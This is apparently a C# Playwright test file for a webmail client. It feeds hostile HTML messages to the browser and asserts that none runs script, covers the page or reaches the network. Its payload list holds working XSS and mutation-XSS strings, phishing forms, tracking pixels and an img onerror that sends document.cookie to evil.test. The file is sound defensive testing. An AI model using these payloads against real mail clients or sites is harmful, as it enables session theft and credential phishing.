using System.Collections.Concurrent;
using Microsoft.Playwright;
using Posthorn.Corpus;

namespace Posthorn.BrowserTests.Mail;

/// <summary>Messages that try to run, to ask, to cover and to steal, in a real browser: none reaches the page, its cookie or the network.</summary>
public sealed class HostileMailTests(Chromium chromium, SharedServer shared) : BrowserTest(chromium, shared)
{
    private static readonly string[] More =
    [
        "<img src=x onerror=\"fetch('https://evil.test/'+document.cookie)\"><svg/onload=alert(1)><script>parent.document.title='stolen'</script>",
        "<style>*{background:url(https://evil.test/css)} @import 'https://evil.test/i.css'; @font-face{font-family:x;src:url(https://evil.test/f)} body{font-family:x}</style><p>styled</p>",
        "<p style=\"background:url('https://evil.test/bg');position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999\">over everything</p>",
        "<form action=\"https://evil.test/login\" method=post><input name=password autofocus><button formaction=\"https://evil.test/b\">Sign in again</button></form>",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.test/refresh\"><base href=\"https://evil.test/\"><a href=\"relative\">x</a><img src=\"relative.png\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\"></table></mtext></math>",
        "<svg><animate href=\"#x\" attributeName=\"href\" values=\"javascript:alert(1)\" /><a id=\"x\"><text>click</text></a><use href=\"https://evil.test/u.svg#a\"/><image href=\"https://evil.test/i.png\"/></svg>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">data</a><a href=\"JaVaScRiPt:alert(1)\">js</a><a href=\"&#106;avascript:alert(1)\">entity</a><a href=\"vbscript:x\">vb</a>",
        "<link rel=stylesheet href=\"https://evil.test/s.css\"><link rel=dns-prefetch href=\"//evil.test\"><link rel=preconnect href=\"https://evil.test\"><link rel=prefetch href=\"https://evil.test/p\">",
        "<img src=\"https://tracker.test/1.gif\" width=1 height=1><img srcset=\"https://tracker.test/2.gif 1x\"><picture><source srcset=\"https://tracker.test/3.gif\"><img src=\"https://tracker.test/4.gif\"></picture>"
            + "<video poster=\"https://tracker.test/5.gif\" src=\"https://tracker.test/6.mp4\" autoplay></video><audio src=\"https://tracker.test/7.mp3\" autoplay></audio><table background=\"https://tracker.test/8.gif\"><tr><td>x</table>"
            + "<iframe src=\"https://tracker.test/9\"></iframe><object data=\"https://tracker.test/10\"></object><embed src=\"https://tracker.test/11\"><input type=image src=\"https://tracker.test/12\">",
        "<template><img src=x onerror=alert(1)></template><noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript><xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
        "<a href=\"https://example.org\" target=_top ping=\"https://evil.test/ping\">leave</a><details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee><body onload=alert(1)>",
    ];

    [Fact]
    public async Task None_of_it_reaches_page_cookie_or_network()
    {
        byte[][] letters =
        [
            .. SampleMail.OfKind("hostile").Select(static mail => mail.ReadOctets()),
            .. More.Select(static html => System.Text.Encoding.UTF8.GetBytes($"From: evil@evil.test\r\nSubject: trick\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n")),
        ];
        await Letters.FileAsync(Server, You, letters);
        var asked = new ConcurrentQueue<string>();
        await SignInAsync(Page);
        await Page.WaitForURLAsync("**/mail/*");
        string list = Page.Url;
        Page.Dialog += (_, dialog) =>
        {
            asked.Enqueue("dialog: " + dialog.Message);
            _ = dialog.DismissAsync();
        };
        // What the policy stopped never left the browser: it says so. All else that is not ours reached for the network, whether it was answered or not.
        Page.Context.RequestFinished += (_, request) => Note(request);
        Page.Context.RequestFailed += (_, request) =>
        {
            if (request.Failure != "csp")
            {
                Note(request);
            }
        };
        Page.Context.Page += (_, page) => asked.Enqueue("a window: " + page.Url);
        for (int uid = 1; uid <= letters.Length; uid++)
        {
            await Page.GotoAsync($"{list}/{uid}");
            foreach (IFrame frame in Page.Frames.Where(frame => frame != Page.MainFrame))
            {
                await frame.WaitForLoadStateAsync(LoadState.Load);
            }

            Assert.Equal($"{list}/{uid}", Page.Url);
            Assert.EndsWith("Posthorn", await Page.TitleAsync(), StringComparison.Ordinal);
            Assert.True(await Page.Locator("[data-message] .tools").IsVisibleAsync(), "The page's own tools are covered.");
        }

        Assert.Empty(asked);
        // What the policy stopped is told by the browser: as it should be.
        Expect("Content Security Policy");
        Expect("sandbox");

        void Note(IRequest request)
        {
            if (!request.Url.StartsWith(Server.WebAddress.ToString(), StringComparison.Ordinal) && !request.Url.StartsWith("data:", StringComparison.Ordinal))
            {
                asked.Enqueue(request.Url);
            }
        }
    }

    [Fact]
    public async Task What_a_stranger_wrote_is_as_harmless_in_the_editor()
    {
        await Letters.FileAsync(Server, You, [.. More.Select(static html => System.Text.Encoding.UTF8.GetBytes($"From: evil@example.net\r\nSubject: trick\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n"))]);
        var asked = new ConcurrentQueue<string>();
        await SignInAsync(Page);
        await Page.WaitForURLAsync("**/mail/*");
        string list = Page.Url;
        Page.Dialog += (_, dialog) =>
        {
            asked.Enqueue("dialog: " + dialog.Message);
            _ = dialog.DismissAsync();
        };
        for (int uid = 1; uid <= More.Length; uid++)
        {
            await Page.GotoAsync($"{list}/{uid}/reply");
            // Of some of them nothing is left to quote.
            await Page.WaitForSelectorAsync("[data-sheet] blockquote", new() { State = WaitForSelectorState.Attached });
            Assert.Equal(0, await Page.Locator("[data-sheet]").Locator("script, style, form, iframe, svg, math, [onerror], [onload], [style], [id], [name]").CountAsync());
        }

        Assert.Empty(asked);
        // Pictures of other hosts stay where they are: the policy of the page loads none.
        Expect("Content Security Policy");
    }
}
